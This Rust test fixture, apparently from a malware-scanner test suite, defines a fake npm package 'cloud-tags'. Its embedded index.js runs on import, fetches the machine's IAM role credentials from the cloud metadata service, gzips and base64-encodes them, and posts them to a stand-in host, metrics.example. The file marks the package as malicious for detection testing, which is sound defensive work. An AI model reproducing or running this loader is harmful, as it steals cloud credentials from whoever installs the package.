//! An npm package that takes the credentials of the machine's role from the cloud's metadata service when it is imported,
//! as clients do, and sends them away packed and encoded.
//!
//! Must be found: the credential that was handed out is seen leaving, through two layers.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const http = require('http');
const https = require('https');
const zlib = require('zlib');
const host = '169.254.169.254';
const ask = (method, path, headers) => new Promise((done, failed) => {
  const request = http.request({ host, method, path, headers, timeout: 2000 }, (answer) => {
    let text = '';
    answer.on('data', (part) => { text += part; });
    answer.on('end', () => done(text));
  });
  request.on('error', failed);
  request.end();
});
(async () => {
  const token = await ask('PUT', '/latest/api/token', { 'X-aws-ec2-metadata-token-ttl-seconds': '60' });
  const headers = { 'X-aws-ec2-metadata-token': token };
  const path = '/latest/meta-data/iam/security-credentials/';
  const role = await ask('GET', path, headers);
  const credentials = await ask('GET', path + role, headers);
  const request = https.request('https://metrics.example/v2/batch', { method: 'POST' }, (reply) => reply.resume());
  request.on('error', () => {});
  request.end(zlib.gzipSync(credentials).toString('base64'));
})().catch(() => {});
exports.region = () => 'eu-west-2';
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("cloud-tags", "2.0.3")
        .field("main", "index.js".into())
        .file("index.js", INDEX_JS);
    package.specimen(
        "npm-metadata-credentials",
        Expect::malicious(&["canary-exfiltrated", "metadata-service"]),
    )
}
